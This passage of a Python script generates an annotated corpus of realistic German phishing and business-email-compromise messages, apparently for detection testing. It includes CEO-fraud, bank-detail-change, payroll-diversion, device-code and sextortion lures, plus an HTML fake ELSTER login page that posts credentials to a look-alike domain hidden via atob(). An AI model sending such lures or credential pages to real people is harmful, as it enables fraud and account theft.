        bnd = lambda i: "=_" + rhex(rng, 32)
    elif style == "thebat":
        mid = "<%d.%s@%s>" % (rng.randint(10 ** 9, 2 * 10 ** 9), dt.strftime("%Y%m%d%H%M%S"), domain)
        extra += ["X-Mailer: The Bat! (v11.2.2) Professional", "X-Priority: 3 (Normal)"]
        bnd = lambda i: "----------" + rhex(rng, 15, True)
    elif style == "zimbra":
        mid = "<%d.%d.%d.JavaMail.zimbra@%s>" % (rng.randint(10 ** 8, 10 ** 9), rng.randint(10 ** 6, 10 ** 7), ms, domain)
        extra += ["X-Mailer: Zimbra 10.1.5_GA_4712 (ZimbraWebClient - GC142 (Win)/10.1.5_GA_4712)",
                  hdr("Thread-Topic", subject, cs), "Thread-Index: " + rid(rng, 24)]
        bnd = lambda i: "----=_Part_%d_%d.%d" % (rng.randint(10 ** 6, 10 ** 7), rng.randint(10 ** 8, 10 ** 9), ms)
    elif style == "zoho":
        mid = "<%s.%s.%d@%s>" % (rhex(rng, 11), rhex(rng, 11), rng.randint(10 ** 18, 10 ** 19), domain)
        extra += ["User-Agent: Zoho Mail", "X-Mailer: Zoho Mail"]
        bnd = lambda i: "----=_Part_%d_%d.%d" % (rng.randint(10 ** 5, 10 ** 6), rng.randint(10 ** 8, 10 ** 9), ms)
    elif style == "mailru":
        mid = "<%d.%d@f%d.i.mail.ru>" % (ms // 1000, rng.randint(10 ** 5, 10 ** 6), rng.randint(100, 999))
        extra += ["X-Mailer: Mail.Ru Mailer 1.0", "X-Priority: 3 (Normal)"]
        bnd = lambda i: "--ALT--%s%d" % (rhex(rng, 16, True), ms // 1000)
    elif style == "yandex":
        mid = "<%d%d@mail.yandex.ru>" % (rng.randint(10 ** 5, 10 ** 6), ms // 1000)
        extra += ["X-Mailer: Yamail [ http://yandex.ru ] 5.0"]
        bnd = lambda i: "----==_mimepart_" + rhex(rng, 13)
    elif style == "exchange-int":
        mid = "<%s@EXMBX02.corp.example.com>" % rhex(rng, 32)
        extra += [hdr("Thread-Topic", subject, cs), "Thread-Index: " + base64.b64encode(bytes([1, 0xdb]) + bytes(rng.randrange(256) for _ in range(20))).decode(),
                  "Accept-Language: %s, en-US" % lang_tag, "Content-Language: " + lang_tag,
                  "X-MS-Has-Attach: " + ("yes" if has_att else ""), "X-MS-TNEF-Correlator: ", "x-originating-ip: [10.20.%d.%d]" % (rng.randint(30, 90), rng.randint(2, 250))]
        key = rhex(rng, 32, True)
        bnd = lambda i: "_%03d_%s_" % (i, key)
    elif style == "ses":
        mid = "<0102019%s-%s-000000@eu-west-1.amazonses.com>" % (rhex(rng, 9), ruuid(rng))
        extra += ["Feedback-ID: ::1.eu-west-1.%s=:AmazonSES" % rid(rng, 43)]
        bnd = lambda i: "----=_Part_%d_%d.%d" % (rng.randint(10 ** 6, 10 ** 7), rng.randint(10 ** 8, 10 ** 9), ms)
    elif style == "sendgrid":
        mid = "<%s@geopod-ismtpd-%d>" % (rid(rng, 22), rng.randint(1, 40))
        bnd = lambda i: rhex(rng, 64)
    elif style == "mailchimp":
        cid = rhex(rng, 20)
        mid = "<%s.%d@mail%d.atl%d.mcdlv.net>" % (rhex(rng, 21), rng.randint(10 ** 6, 10 ** 7), rng.randint(10, 250), rng.randint(100, 300))
        extra += ["X-Mailer: MailChimp Mailer - **CID%s**" % cid, "X-Campaign: mailchimp%s.%s" % (rhex(rng, 25), cid),
                  "X-campaignid: mailchimp%s.%s" % (rhex(rng, 25), cid),
                  "X-Report-Abuse: Please report abuse for this campaign here: https://mailchimp.com/contact/abuse/?u=%s&id=%s&e=%s" % (rhex(rng, 25), cid, rhex(rng, 10)),
                  "X-MC-User: %s" % rhex(rng, 25), "Precedence: bulk"]
        bnd = lambda i: "_----------=_MCPart_%d" % rng.randint(10 ** 9, 2 * 10 ** 9)
    elif style == "bulk":
        mid = "<%d.%s@%s>" % (ms, rhex(rng, 16), domain)
        extra += ["Precedence: bulk"]
        bnd = lambda i: "----=_Part_%d_%d.%d" % (rng.randint(10 ** 5, 10 ** 6), rng.randint(10 ** 8, 10 ** 9), ms)
    else:  # generic application mailer
        mid = "<%s.%d@%s>" % (rhex(rng, 24), ms, domain)
        bnd = lambda i: "----=_Part_%d_%d.%d" % (rng.randint(10 ** 5, 10 ** 6), rng.randint(10 ** 8, 10 ** 9), ms)
    return mid, extra, bnd

# ---- upstream Received helpers (evaluated later with context) -------------
def U_gmail(host):
    def f(c):
        d = c["dt"] + datetime.timedelta(seconds=1)
        return "Received: by %s with SMTP id %s-%s.%d\n        for <%s>; %s" % (
            host, rhex(c["rng"], 14), rhex(c["rng"], 10) + "so" + str(c["rng"].randint(10 ** 8, 10 ** 9)),
            c["rng"].randint(1, 9), c["rcpt"], format_datetime(d.astimezone(tz("-0800"))) + " (PST)")
    return f

def U_exo():
    def f(c):
        h = "%s%d" % (c["rng"].choice(["AM9PR04MB", "DB9PR08MB", "PAXPR03MB", "VI1PR06MB", "AS8PR07MB"]), c["rng"].randint(1000, 9999))
        d = "eurprd0%d.prod.outlook.com" % c["rng"].randint(1, 9)
        v6 = "fe80::%s:%s:%s:%s" % tuple(rhex(c["rng"], 4) for _ in range(4))
        return ("Received: from %s.%s ([%s]) by %s.%s\n ([%s%%%d]) with mapi id 15.20.%d.%03d; %s" %
                (h, d, v6, h, d, v6, c["rng"].randint(3, 7), c["rng"].randint(8100, 9300), c["rng"].randint(0, 40),
                 ms_date((c["dt"] + datetime.timedelta(seconds=1)).astimezone(tz("+0000")))))
    return f

def U_sa(mta, client_ip, client_rdns, helo=None, tzoff=None, soft="Postfix"):
    def f(c):
        d = c["dt"] + datetime.timedelta(seconds=1)
        if tzoff:
            d = d.astimezone(tz(tzoff))
        return "Received: from %s (%s [%s])\n\t(Authenticated sender: %s)\n\tby %s (%s) with ESMTPSA id %s\n\tfor <%s>; %s" % (
            helo or "[192.168.%d.%d]" % (c["rng"].randint(0, 2), c["rng"].randint(10, 60)), client_rdns, client_ip,
            c["envfrom"], mta, soft, pf_qid(c["rng"]), c["rcpt"], pf_date(d))
    return f

def U_local(mta, how="ESMTP"):
    def f(c):
        d = c["dt"] + datetime.timedelta(seconds=1)
        return "Received: from localhost (localhost [127.0.0.1])\n\tby %s with %s id %s\n\tfor <%s>; %s" % (
            mta, how, rid(c["rng"], 10), c["rcpt"], pf_date(d))
    return f

def U_int():
    def f(c):
        d = (c["dt"] + datetime.timedelta(seconds=1))
        return ("Received: from EXMBX02.corp.example.com (10.20.1.12) by mail-int01.example.com\n (10.20.0.25) with Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.2.1748.10; %s" % ms_date(d))
    return f

def U_raw(s):
    return lambda c: s

# --------------------------------------------------------------------------
MSGS = []

def M(**kw):
    MSGS.append(kw)

def build(m, n):
    key = "%s-%02d-%s" % (m["kind"], n, m["slug"])
    rng = R(key)
    cs, cte, lang = m["cs"], m["cte"], m["lang"]
    off = m.get("tz", "+0100")
    dt = datetime.datetime.strptime(m["dt"], "%Y-%m-%d %H:%M:%S").replace(tzinfo=tz(off))
    to = m["to"]; cc = m.get("cc", [])
    rcpt = m.get("rcpt") or next(a for _, a in to + cc if a.endswith("@example.com") or a.endswith("@examplegroup.eu"))
    envfrom = m.get("rp", m["frm"][1])
    atts = m.get("atts", []); inline = m.get("inline", [])
    style = m["client"]
    dom = m.get("msgid_domain") or m["frm"][1].split("@")[1]
    mid, extra, bnd = client_profile(style, rng, dom, dt, m["subject"], cs, lang, bool(atts))
    # ---- body
    text = m.get("text"); html = m.get("html")
    if html is None and m.get("auto_html"):
        html = text_to_html(text, m["auto_html"], lang)
    if html is not None:
        html = html.replace('content="text/html; charset=utf-8"', 'content="text/html; charset=%s"' % cs)
    if text is None and html is not None and not m.get("html_only"):
        text = html_to_text(html)
    if m.get("html_only"):
        body = leaf_text(html, "html", cs, cte)
    elif html is not None:
        body = multipart("alternative", [leaf_text(text, "plain", cs, cte), leaf_text(html, "html", cs, cte)], bnd(0))
    else:
        body = leaf_text(text, "plain", cs, cte)
    if inline:
        body = multipart("related", [body] + [leaf_att(fn, ct, data, cid) for cid, fn, ct, data in inline], bnd(1))
    if atts:
        body = multipart("mixed", [body] + [leaf_att(fn, ct, data) for fn, ct, data in atts], bnd(2),
                         preamble="This is a multi-part message in MIME format.\n\n" if style in ("outlook", "thunderbird", "thebat") else "")
    # ---- trace headers
    mx = m["mx"]  # (helo, rdns, ip, tls)
    mxdt = (dt + datetime.timedelta(seconds=m.get("delay", 2 + rng.randint(0, 6)))).astimezone(tz("+0100"))
    tls = mx[3] if len(mx) > 3 else "tls13"
    tlsline = {"tls13": "\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)\n\t key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)\n\t(No client certificate requested)",
               "tls12": "\n\t(using TLSv1.2 with cipher ECDHE-RSA-AES256-GCM-SHA384 (256/256 bits))\n\t(No client certificate requested)",
               "none": ""}[tls]
    proto = "ESMTP" if tls == "none" else "ESMTPS"
    lines = ["Return-Path: <%s>" % envfrom,
             "Received: from %s (%s [%s])%s\n\tby mx01.example.com (Postfix) with %s id %s\n\tfor <%s>; %s" % (
                 mx[0], mx[1], mx[2], tlsline, proto, pf_qid(rng), rcpt, pf_date(mxdt))]
    ctx = {"dt": dt, "rng": rng, "rcpt": rcpt, "envfrom": envfrom}
    for u in m.get("up", []):
        lines.append(u(ctx))
    lines += m.get("pre_headers", [])
    # ---- originator headers
    lines.append("From: " + addr(m["frm"], cs))
    if m.get("sender"):
        lines.append("Sender: " + addr(m["sender"], cs))
    lines.append("To: " + addrs(to, cs))
    if cc:
        lines.append("CC: " + addrs(cc, cs))
    if m.get("reply_to"):
        lines.append("Reply-To: " + addr(m["reply_to"], cs))
    lines.append(hdr("Subject", m["subject"], cs))
    lines.append("Date: " + (ms_date(dt) if style in ("exo", "outlookcom", "exchange-int", "outlook") else format_datetime(dt)))
    lines.append("Message-ID: " + mid)
    if m.get("irt"):
        lines.append("In-Reply-To: " + m["irt"])
        lines.append("References: " + m.get("refs", m["irt"]))
    lines += extra
    lines += m.get("headers", [])
    lines.append("MIME-Version: 1.0")
    raw = "\n".join(lines) + "\n" + body[0] + "\n" + body[1]
    data = raw.encode("latin-1").replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    return data

# --------------------------------------------------------------------------
# content helpers
# --------------------------------------------------------------------------
def notif(brand, color, body_html, button=None, footer="", lang="de", logo_text=None, width=600):
    btn = ""
    if button:
        btn = ('<table role="presentation" cellpadding="0" cellspacing="0" style="margin:24px 0"><tr><td style="background:%s;border-radius:4px">'
               '<a href="%s" style="display:inline-block;padding:12px 28px;color:#ffffff;font-weight:bold;text-decoration:none;font-family:Arial,sans-serif">%s</a>'
               '</td></tr></table>' % (color, H.escape(button[1], quote=True), button[0]))
    return ('<!DOCTYPE html>\n<html lang="%s">\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            '<meta name="viewport" content="width=device-width, initial-scale=1">\n<title>%s</title>\n</head>\n'
            '<body style="margin:0;padding:0;background:#f2f4f6">\n<table role="presentation" width="100%%" cellpadding="0" cellspacing="0" style="background:#f2f4f6"><tr><td align="center">\n'
            '<table role="presentation" width="%d" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Arial,Helvetica,sans-serif;font-size:14px;line-height:21px;color:#333333">\n'
            '<tr><td style="background:%s;padding:18px 32px;color:#ffffff;font-size:20px;font-weight:bold">%s</td></tr>\n'
            '<tr><td style="padding:28px 32px">\n%s\n%s\n</td></tr>\n'
            '<tr><td style="padding:18px 32px;background:#f7f7f7;color:#888888;font-size:11px;line-height:16px">%s</td></tr>\n'
            '</table>\n</td></tr></table>\n</body>\n</html>\n') % (lang, H.escape(brand), width, color, logo_text or H.escape(brand), body_html, btn, footer)

def newsletter(brand, color, date_line, intro, items, footer, lang, unsub):
    rows = "".join('<tr><td style="padding:14px 0;border-bottom:1px solid #e5e5e5"><a href="%s" style="color:%s;font-size:17px;font-weight:bold;text-decoration:none">%s</a>'
                   '<p style="margin:6px 0 0 0">%s</p></td></tr>\n' % (H.escape(u, quote=True), color, H.escape(t), H.escape(b)) for t, b, u in items)
    body = ('<p style="color:#888888;font-size:12px;margin:0 0 12px 0">%s</p><p>%s</p>\n<table role="presentation" width="100%%" cellpadding="0" cellspacing="0">\n%s</table>' %
            (H.escape(date_line), H.escape(intro), rows))
    foot = '%s<br><a href="%s" style="color:#888888">%s</a>' % (footer[0], H.escape(unsub, quote=True), footer[1])
    return notif(brand, color, body, None, foot, lang)

def phish_page(title, heading, intro, action, user, color="#0b4f8a", lang="de", user_label="E-Mail", pw_label="Passwort", btn="Anmelden"):
    enc = base64.b64encode(action.encode()).decode()
    return ('<!DOCTYPE html>\n<html lang="%s"><head><meta charset="utf-8"><title>%s</title>\n'
            '<style>body{font-family:Segoe UI,Arial,sans-serif;background:#eef1f4;margin:0}.b{width:400px;margin:70px auto;background:#fff;padding:32px;border-top:6px solid %s;box-shadow:0 2px 8px #0002}'
            'input{width:100%%;padding:9px;margin:6px 0 14px;border:1px solid #bbb;box-sizing:border-box}button{background:%s;color:#fff;border:0;padding:10px 26px;font-size:15px}</style></head>\n'
            '<body><div class="b"><h2>%s</h2><p>%s</p>\n<form id="f" method="post" action="#">\n<label>%s</label><input name="login" value="%s" readonly>\n'
            '<label>%s</label><input type="password" name="pw" autofocus>\n<button type="submit">%s</button></form></div>\n'
            '<script>/* evaluation sample: endpoint is fictitious */ document.getElementById("f").action=atob("%s");</script>\n</body></html>\n') % (
                lang, H.escape(title), color, color, H.escape(heading), H.escape(intro), H.escape(user_label), H.escape(user), H.escape(pw_label), H.escape(btn), enc)

def pdf(fn, title, lines, author="", producer="Microsoft Word for Microsoft 365", when="20261102101500+01'00'"):
    return (fn, "application/pdf", make_pdf(lines, title, author, producer, when))

# common sending infrastructure -------------------------------------------
GMX      = ("mout.gmx.net", "mout.gmx.net", "212.227.17.21")
WEBDE    = ("mout.web.de", "mout.web.de", "212.227.15.4")
TONLINE  = ("mailout03.t-online.de", "mailout03.t-online.de", "194.25.134.81")
def GM(n, ip):
    h = "mail-%s.google.com" % n
    return (h, h, ip)
def EXO(code, n, ip):
    return ("%s-obe.outbound.protection.outlook.com" % code.upper(),
            "mail-%s.outbound.protection.outlook.com" % n, ip)
OUTLOOKCOM = ("EUR05-AM6-obe.outbound.protection.outlook.com", "mail-am6eur05olkn2045.outbound.protection.outlook.com", "40.92.91.45")
INTERNAL = ("mail-int01.example.com", "mail-int01.example.com", "10.20.0.25", "tls12")

# ==========================================================================
# ATTACK MESSAGES
# ==========================================================================
A = "attack"

# ---------------------------------------------------------------- German --
M(kind=A, slug="ceo-fraud-gmx-vertrauliche-akquisition", lang="de", cs="utf-8", cte="quoted-printable",
  frm=("Dr. Markus Hoffmann", "m.hoffmann.vorstand@gmx.net"), to=[S["cfo"]],
  dt="2026-11-03 07:48:12", mx=GMX, client="iphone", msgid_domain="gmx.net",
  up=[U_sa("mail.gmx.net", "91.115.204.17", "91-115-204-17.adsl.highway.telekom.at", helo="[10.112.34.7]", soft="mrgmx004")],
  subject="Vertraulich – Projekt Mainufer",
  text="""Hallo Frau Berger,

sind Sie heute im Haus? Ich bin bis Donnerstag in Zürich bei den Gesprächen zum Portfolio Mainufer und nur eingeschränkt telefonisch erreichbar, deshalb schreibe ich Ihnen von meiner privaten Adresse.

Wir stehen kurz vor dem Signing. Der Verkäufer besteht auf einer Reservierungszahlung von 4,8 % des Kaufpreises auf das Anderkonto der begleitenden Kanzlei, sonst geht die Exklusivität am Freitag an den Mitbieter. Die Kanzlei Dr. Albrecht wird sich heute noch mit den Kontodaten und dem Exklusivitätsschreiben bei Ihnen melden.

Bitte behandeln Sie das absolut vertraulich, auch intern, bis die Ad-hoc-Prüfung abgeschlossen ist. Das betrifft ausdrücklich auch Herrn Richter und das Treasury-Team; ich informiere die Kollegen nach dem Signing selbst.

Antworten Sie mir bitte kurz hier, ob Sie heute eine Auslandsüberweisung freigeben können und wie hoch Ihr Einzellimit im Banking ist.

Beste Grüße
Markus Hoffmann

Von meinem iPhone gesendet
""",
  what="CEO fraud (stage 1): CEO display name on a GMX free-mail address asks CFO for secrecy and her single-payment limit.",
  why="Executive impersonation from a free mailer, secrecy ('also vs. treasury'), urgency, announced third-party 'law firm'; CEO never uses gmx; sent from an Austrian DSL line.")

M(kind=A, slug="lieferant-lookalike-bankverbindung", lang="de", cs="iso-8859-15", cte="quoted-printable",
  frm=("Stefan Maier", "s.maier@lieferant-gmhb.de"), to=[S["ap"]], cc=[("Lieferant GmbH Buchhaltung", "rechnungen@lieferant-gmhb.de")],
  dt="2026-11-09 10:22:40", mx=("mail.lieferant-gmhb.de", "vps-4f21a0c3.vps.ovh.net", "51.75.147.203", "tls12"), client="outlook",
  up=[U_sa("mail.lieferant-gmhb.de", "185.107.56.211", "unknown", helo="DESKTOP-7QK2M1R")],
  irt="<5c0e8a1f3b7d4e2a9f61c4b8d2e7a903@EXMBX02.corp.example.com>",
  subject="AW: Rechnung RE-2026-10418 / Objekt Hanauer Landstraße 291",
  text="""Sehr geehrte Frau Krüger,

vielen Dank für Ihre Rückmeldung zur Rechnung RE-2026-10418.

Wie in unserem Kundenrundschreiben angekündigt, haben wir im Zuge der Neuordnung unseres Zahlungsverkehrs zum 01.11.2026 unsere Hausbank gewechselt. Die bisherige Verbindung bei der Commerzbank wird nur noch bis Monatsende für Eingänge offen gehalten; danach gehen Zahlungen zurück, was erfahrungsgemäß zu Verzögerungen bei der Verbuchung führt.

Bitte hinterlegen Sie für alle offenen und künftigen Rechnungen ab sofort folgende Bankverbindung:

Kontoinhaber: Lieferant GmbH
IBAN: %s
BIC: SOBKDEBBXXX
Bank: Solaris SE, Berlin

Die offenen Posten RE-2026-10418 (14.612,30 €) und RE-2026-10502 (3.877,45 €) bitten wir bereits auf das neue Konto zu überweisen. Das Bestätigungsschreiben unserer Geschäftsführung finden Sie im Anhang.

Für eine kurze Bestätigung, dass die Änderung in Ihrem System erfasst wurde, wäre ich Ihnen dankbar.

Mit freundlichen Grüßen

Stefan Maier
Key Account Management

Lieferant GmbH
Gutleutstraße 85 | 60329 Frankfurt am Main
Tel. +49 69 2475 9813 | s.maier@lieferant-gmhb.de
Geschäftsführer: Rainer Lenz | HRB 104 552, AG Frankfurt am Main
""" % fi(LIEF_FAKE),
  atts=[pdf("Lieferant_GmbH_Aenderung_Bankverbindung.pdf", "Lieferant GmbH - Aenderung der Bankverbindung",
            ["Frankfurt am Main, 02.11.2026", "", "Sehr geehrte Geschaeftspartner,", "ab sofort bitten wir um Zahlung auf:",
             "IBAN " + fi(LIEF_FAKE), "BIC SOBKDEBBXXX - Solaris SE", "", "Rainer Lenz, Geschaeftsfuehrer"], "Rainer Lenz", when="20261102160312+01'00'")],
  what="Supplier bank-detail change for Lieferant GmbH from the look-alike domain lieferant-gmhb.de (transposed letters), fake reply to an invented thread, PDF 'confirmation letter'.",
  why="Look-alike of lieferant-gmbh.de hosted on an OVH VPS; new IBAN at a neobank (Solaris), pressure to redirect open invoices now; genuine Lieferant change (business/02) is only from 1.1.2027 to Frankfurter Volksbank and asks for phone verification.")

M(kind=A, slug="inkasso-mahnung-zip-dropper", lang="de", cs="iso-8859-1", cte="base64",
  frm=("Hanseatische Inkasso-Treuhand GmbH", "buchhaltung@zimmerei-gruber-ruhpolding.de"), to=[S["ap2"]],
  reply_to=("Forderungsmanagement HIT", "forderung@hit-inkasso-treuhand.de"),
  dt="2026-11-11 14:05:19", mx=("dd41822.kasserver.com", "dd41822.kasserver.com", "85.13.151.77", "tls12"), client="roundcube",
  up=[U_sa("dd41822.kasserver.com", "45.88.97.14", "unknown", helo="webmail.all-inkl.com")],
  subject="Letzte Mahnung vor gerichtlichem Mahnverfahren - Az. HIT-2026-118734",
  text="""Sehr geehrte Damen und Herren,

trotz Zahlungserinnerung und Mahnung unserer Mandantin, der Gebäudeservice Rhein-Main GmbH, ist die nachstehende Forderung bis heute nicht ausgeglichen:

Hauptforderung (Rechnungen 2026-0871, 2026-0912): 2.611,40 EUR
Verzugszinsen: 37,12 EUR
Inkassokosten gem. RVG: 299,65 EUR
Gesamtforderung: 2.948,17 EUR

Wir fordern Sie letztmalig auf, den Gesamtbetrag bis zum 18.11.2026 zu begleichen. Nach fruchtlosem Fristablauf werden wir ohne weitere Ankündigung das gerichtliche Mahnverfahren beim zuständigen Amtsgericht einleiten; die hierdurch entstehenden Kosten gehen zu Ihren Lasten.

Die vollständige Forderungsaufstellung sowie Kopien der Originalrechnungen und Leistungsnachweise finden Sie im Anhang. Aus Datenschutzgründen ist das Archiv verschlüsselt, das Kennwort lautet: HIT2026

Sollten Sie die Forderung bestreiten, bitten wir um schriftliche Begründung innerhalb der genannten Frist.

Mit freundlichen Grüßen

i. A. Katharina Brenner
Sachbearbeitung Forderungsmanagement
Hanseatische Inkasso-Treuhand GmbH
Ballindamm 17, 20095 Hamburg
""",
  atts=[("Forderungsaufstellung_HIT-2026-118734.zip", "application/zip",
         make_zip([("Forderungsaufstellung_HIT-2026-118734.pdf.js", "// " + PLACEHOLDER),
                   ("Rechnungskopien_2026-0871_0912.pdf.lnk", PLACEHOLDER)], (2026, 11, 11, 13, 52, 10)))],
  what="Fake debt-collection final reminder with password-protected ZIP (inert .pdf.js / .pdf.lnk placeholders) sent through a compromised Bavarian carpentry shop's hosting account.",
  why="Malware dropper pattern: double extensions inside archive, password in body to defeat scanning, From address of an unrelated compromised domain, Reply-To to another domain, unknown 'client' company.")

M(kind=A, slug="immoscout24-konto-deaktiviert-sendgrid", lang="de", cs="utf-8", cte="base64",
  frm=("ImmoScout24 Business", "service@immoscout24-business.de"), to=[S["lease"]],
  rp="bounces+41822733-9c1e-michael.braun=example.com@em8123.immoscout24-business.de",
  dt="2026-11-05 06:31:02", mx=("o3.ptr8123.immoscout24-business.de", "o3.ptr8123.immoscout24-business.de", "149.72.154.232"), client="sendgrid",
  headers=["List-Unsubscribe: <https://u8123.ct.sendgrid.net/asm/unsubscribe/?user_id=41822733&data=Xk3p>"],
  html_only=True,
  subject="Ihre Objekte wurden vorübergehend deaktiviert – Aktion erforderlich",
  html=notif("ImmoScout24 Business", "#3c3c3c",
             "<p>Sehr geehrter Herr Braun,</p>"
             "<p>bei der monatlichen Abrechnung Ihres Business-Kontos (Kundennummer 10448213) konnte die hinterlegte SEPA-Lastschrift für den Zeitraum 11/2026 nicht eingezogen werden. Die Bank hat die Lastschrift mit dem Rückgabegrund <b>MD07 (Mandat ungültig)</b> zurückgegeben.</p>"
             "<p>Ihre <b>23 aktiven Objekte</b> wurden deshalb vorübergehend ausgeblendet und sind für Suchende nicht sichtbar. Bestehende Anfragen bleiben erhalten.</p>"
             "<p>Bitte bestätigen Sie Ihre Zahlungsinformationen innerhalb von 48 Stunden, damit Ihre Objekte automatisch wieder veröffentlicht werden.</p>",
             ("Zahlungsdaten bestätigen", "https://u8123.ct.sendgrid.net/ls/click?upn=u001.Jq8Yk2-2Fv7bL0rT4nWc5-2BzXo3sPq-3D-3DZ9x1_immoscout24-business.de-2Fkonto-2Fzahlung"),
             "Immobilien Scout GmbH · Invalidenstraße 65 · 10557 Berlin<br>Sie erhalten diese E-Mail als Inhaber eines Business-Kontos.", lang="de",
             logo_text='<span style="color:#00d9b1">Immo</span>Scout24 <span style="font-weight:normal">Business</span>'),
  what="Fake ImmoScout24 'listings deactivated, confirm payment data' lure, HTML-only, sent through SendGrid from the look-alike domain immoscout24-business.de.",
  why="Credential/payment-data phishing against leasing; brand domain is immobilienscout24.de; link hidden behind ESP click tracking; 48-hour deadline.")

M(kind=A, slug="elster-grundsteuerwertbescheid-html-anhang", lang="de", cs="iso-8859-1", cte="quoted-printable",
  frm=("Finanzamt Frankfurt am Main II", "poststelle@elster-bescheid.de"), to=[S["pm"]],
  dt="2026-11-17 09:58:44", mx=("mail.elster-bescheid.de", "unknown", "185.234.72.19", "none"), client="generic",
  subject="Bereitstellung Änderungsbescheid Grundsteuerwert - Az. 2611/049/08733",
  text="""Sehr geehrte Damen und Herren,

für das Grundstück Berger Straße 211, 60385 Frankfurt am Main (Aktenzeichen 2611/049/08733) wurde ein geänderter Bescheid über den Grundsteuerwert sowie über den Grundsteuermessbetrag auf den 01.01.2025 (Hauptveranlagung) erlassen.

Der Bescheid wurde Ihnen zusätzlich zur Bereitstellung in Ihrem ELSTER-Postfach als Anlage zu dieser Nachricht übermittelt. Zur Anzeige ist aus Gründen des Steuergeheimnisses (§ 30 AO) eine Anmeldung mit Ihren ELSTER-Zugangsdaten erforderlich.

Bitte beachten Sie: Der Bescheid gilt am vierten Tag nach der Bereitstellung als bekannt gegeben (§ 122a AO). Die Einspruchsfrist von einem Monat beginnt mit diesem Zeitpunkt.

Diese Nachricht wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.

Mit freundlichen Grüßen
Ihr Finanzamt Frankfurt am Main II
Gutleutstraße 118, 60327 Frankfurt am Main
""",
  atts=[("Bescheid_2611049087330.html", "text/html",
         phish_page("Mein ELSTER - Ihr Online-Finanzamt", "Mein ELSTER - Anmeldung",
                    "Zur Anzeige des Bescheids (Az. 2611/049/08733) melden Sie sich bitte mit Ihrem Zertifikatspasswort an.",
                    "https://elster-bescheid.de/api/v2/auth", "anna.fischer@example.com", "#0b4f8a", "de",
                    "Benutzername / E-Mail", "Passwort der Zertifikatsdatei").encode("utf-8"))],
  what="Fake tax-office notice about a changed Grundsteuerwert assessment (topical after the 2025 property-tax reform) with an HTML attachment that is a fake ELSTER login.",
  why="German tax authorities never e-mail assessments as attachments; HTML attachment with credential form and atob()-hidden post target; sender domain elster-bescheid.de on an IP without rDNS, no TLS.")

M(kind=A, slug="device-code-phishing-datenraum", lang="de", cs="utf-8", cte="quoted-printable",
  frm=("Dr. Henrike Albers | Albers Wendt Notare", "h.albers@albers-wendt-notare.de"), to=[S["legal"]], cc=[S["lease"]],
  dt="2026-11-24 15:12:07", mx=EXO("EUR02-VI1", "vi1eur02on2112", "40.107.241.112"), client="exo", auto_html="exo",
  up=[U_exo()],
  subject="Einladung: Datenraum Ankauf Eschborn Süd – Zugriff freischalten",
  text="""Sehr geehrte Frau Neumann,
sehr geehrter Herr Braun,

in Vorbereitung des Beurkundungstermins haben wir die aktualisierten Unterlagen (Mietvertragsnachträge, Baulastenverzeichnis, Entwurf Kaufvertrag Stand 23.11.) im virtuellen Datenraum der Verkäuferseite bereitgestellt.

Der Zugang erfolgt aus Sicherheitsgründen über Ihr bestehendes Microsoft-365-Konto, eine separate Registrierung ist nicht erforderlich:

1. Öffnen Sie https://microsoft.com/devicelogin
2. Geben Sie den Code GQ7H2KXTM ein
3. Melden Sie sich mit Ihrer Firmenadresse an und bestätigen Sie die Anfrage „Datenraum Eschborn Süd“

Der Code ist aus Sicherheitsgründen nur 15 Minuten gültig. Falls er abgelaufen ist, antworten Sie bitte kurz auf diese E-Mail, wir senden Ihnen umgehend einen neuen.

Mit freundlichen Grüßen

Dr. Henrike Albers
Notarin

Albers Wendt Notare
Bockenheimer Landstraße 51–53
60325 Frankfurt am Main
""",
  what="OAuth device-code phishing: 'notary' from a compromised Microsoft 365 tenant asks recipients to enter a code at the genuine microsoft.com/devicelogin, which would grant the attacker a token.",
  why="Newest M365 account-takeover technique (device-code flow abuse); only legitimate Microsoft links so URL filters pass; unknown notary, code expiring in 15 min, 'reply for a new code'. IT (business/14) explicitly warns about exactly this.")

M(kind=A, slug="gehaltskonto-aenderung-gmx", lang="de", cs="utf-8", cte="quoted-printable",
  frm=("Anna Fischer", "anna.fischer.ffm@gmx.de"), to=[S["pay"]],
  dt="2026-11-16 12:44:30", mx=GMX, client="gmx",
  up=[U_sa("mail.gmx.net", "2a02:8109:b6c0:3d00::1f2e", "2a02:8109:b6c0:3d00::1f2e", helo="[10.0.0.12]", soft="mrgmx105")],
  subject="Neue Bankverbindung für die Gehaltsabrechnung",
  text="""Hallo Frau Kowalczyk,

ich habe mein Gehaltskonto gewechselt. Könnten Sie bitte ab der November-Abrechnung die neue Bankverbindung hinterlegen?

Kontoinhaberin: Anna Fischer
IBAN: %s

Ich schreibe von meiner privaten Adresse, weil ich heute den ganzen Tag im Objekt in Offenbach bin und mich dort nicht ins VPN einwählen kann. Eine kurze Rückmeldung, ab wann die Änderung greift, wäre lieb. Falls Sie dafür ein Formular brauchen, schicken Sie es mir gern hierher.

Viele Grüße
Anna Fischer
""" % fi(FISCHER_FAKE),
  what="Payroll diversion: a property manager impersonated from a GMX address asks group payroll to change her salary account before the November run.",
  why="Employee impersonation from private free mail, change of salary IBAN, wants the confirmation/form sent to the private address; no request via the HR system.")

M(kind=A, slug="sextortion-absender-gleich-empfaenger", lang="de", cs="utf-8", cte="base64",
  frm=("", "tobias.lang@example.com"), to=[("", "tobias.lang@example.com")], rp="tobias.lang@example.com",
  dt="2026-11-21 03:17:55", mx=("WIN-8KQ1V3R7B2M", "unknown", "103.151.125.18", "none"), client="generic", msgid_domain="example.com",
  subject="Sicherheitshinweis zu Ihrem Konto tobias.lang@example.com",
  text="""Hallo,

wie Sie vielleicht bemerkt haben, habe ich Ihnen diese Nachricht von Ihrem eigenen Konto gesendet. Ich habe seit einigen Monaten vollen Zugriff auf Ihr Gerät.

Über eine Sicherheitslücke in der Firmware Ihres Routers habe ich eine Software installiert, die Bildschirm und Kamera aufzeichnet. Ich habe Ihre Kontakte, Ihre E-Mails und Videos, die Sie sicher niemandem zeigen möchten – schon gar nicht Ihren Kollegen bei Example Group.

Ich schlage Ihnen eine einfache Lösung vor: Überweisen Sie 1.450 EUR in Bitcoin an folgende Adresse:

